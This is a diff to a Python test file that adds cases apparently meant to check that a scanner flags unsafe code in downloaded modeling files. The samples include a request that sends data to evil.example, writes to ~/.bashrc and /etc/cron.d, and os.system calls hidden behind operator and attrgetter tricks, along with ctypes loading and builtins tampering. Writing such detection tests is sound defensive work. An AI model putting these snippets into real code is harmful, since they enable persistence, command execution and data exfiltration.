@@ -147,6 +147,12 @@ def test_a_modeling_file_of_the_hub_is_left_alone() -> None:
         "import requests\ndef helper(x):\n  return requests.get('http://evil.example/?q=' + x)",
         "import os\ndef helper():\n  open(os.path.expanduser('~/.bashrc'), 'a').write('x')",
         "from pathlib import Path\ndef helper():\n  Path('/etc/cron.d/x').write_text('x')",
+        "from ctypes import *\ncdll.LoadLibrary('x.so').f()",
+        "import operator, os\noperator.methodcaller('system', 'id')(os)",
+        "from operator import attrgetter as a\nimport os\na('system')(os)('id')",
+        "import sys\nsys.meta_path.insert(0, object())",
+        "import builtins\nsetattr(builtins, 'open', None)",
+        "from git import Repo\nRepo.clone_from('http://x', 'y')",
         "match 1:\n  case 1:\n    import os\n    os.system('x')",
     ],
 )
